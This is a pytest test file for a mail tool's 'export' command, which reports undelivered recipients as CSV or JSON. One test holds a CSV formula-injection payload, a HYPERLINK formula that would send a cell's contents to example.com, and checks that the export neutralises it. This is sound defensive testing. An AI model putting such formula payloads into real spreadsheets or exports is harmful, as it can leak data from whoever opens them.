"""``mailonce export``."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from mailonce import terminal
from mailonce.delivery import Conclusion
from mailonce.ledgers.base import Ledger
from mailonce.messages.statement import StatementMaker
from mailonce.messages.templates import Templates
from mailonce.states import State
from mailonce.workflow.snapshot_writer import write_snapshot
from tests.fakes import make_delivery
from tests.terminal.conftest import CAMPAIGN, HELD, MONTH, conclude

pytestmark = pytest.mark.usefixtures("ledger", "snapshots")
FORMULA = '=HYPERLINK("http://example.com/?"&A1)'


def exported(capsys: pytest.CaptureFixture[str], *options: str) -> str:
    assert terminal.main(["export", MONTH, *options]) == 0
    return capsys.readouterr().out


def test_who_did_not_get_it_and_why(capsys: pytest.CaptureFixture[str]) -> None:
    (row,) = csv.DictReader(io.StringIO(exported(capsys)))
    assert (row["recipient_id"], row["state"], row["why"]) == ("C-2", "IN_DOUBT", "no answer came")
    assert (row["email"], row["key"]) == (HELD.message.to, HELD.key)


@pytest.mark.parametrize("options", [["--json"], ["--format", "json"]])
def test_for_programs(capsys: pytest.CaptureFixture[str], options: list[str]) -> None:
    (row,) = json.loads(exported(capsys, *options))
    assert (row["recipient_id"], row["state"]) == ("C-2", "IN_DOUBT")


def test_a_formula_does_not_run(ledger: Ledger, capsys: pytest.CaptureFixture[str]) -> None:
    evil = make_delivery(FORMULA, campaign=CAMPAIGN, email="c3@example.org")
    conclude(ledger, evil, Conclusion(state=State.REJECTED, error="@SUM(1+1)"))
    rows = {row["email"]: row for row in csv.DictReader(io.StringIO(exported(capsys)))}
    assert (rows["c3@example.org"]["recipient_id"], rows["c3@example.org"]["why"]) == (f"'{FORMULA}", "'@SUM(1+1)")


def test_who_was_planned_and_never_tried_and_who_was_refused(
    snapshots: str, capsys: pytest.CaptureFixture[str]
) -> None:
    content = Templates.inline(CAMPAIGN, subject="Your month", text="{{ units }}")
    maker = StatementMaker(campaign=CAMPAIGN, period=MONTH, content=content, sender="billing@example.com")
    rows = [{"recipient_id": who, "email": email, "units": 1} for who, email in (
        ("C-1", "a@example.com"), ("C-2", "b@example.com"), ("C-5", "e@example.com"), ("C-6", "nobody"),
    )]  # fmt: skip
    write_snapshot(rows, maker, uri=snapshots)
    found = {row["recipient_id"]: row["state"] for row in json.loads(exported(capsys, "--json"))}
    assert found == {"C-2": "IN_DOUBT", "C-5": "not yet", "C-6": "invalid"}


def test_into_a_file_that_only_its_owner_reads(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    place = tmp_path / "missing.csv"
    assert f"1 without their mail: {place}" in exported(capsys, "--output", str(place))
    assert len(list(csv.DictReader(place.open(newline="")))) == 1
    assert place.stat().st_mode & 0o077 == 0
    assert [file.name for file in tmp_path.iterdir() if file.is_file()] == ["missing.csv"]


def test_everybody_got_it(ledger: Ledger, capsys: pytest.CaptureFixture[str]) -> None:
    terminal.main(["resolve", HELD.key, "--sent", "--reason", "saw it"])
    capsys.readouterr()
    assert exported(capsys).startswith("recipient_id,")
    assert json.loads(exported(capsys, "--json")) == []


@pytest.mark.parametrize(("arguments", "code"), [(["2031-01"], 1), ([MONTH, "--output", "/nowhere/x.csv"], 2)])
def test_exit_codes(arguments: list[str], code: int) -> None:
    assert terminal.main(["export", *arguments]) == code
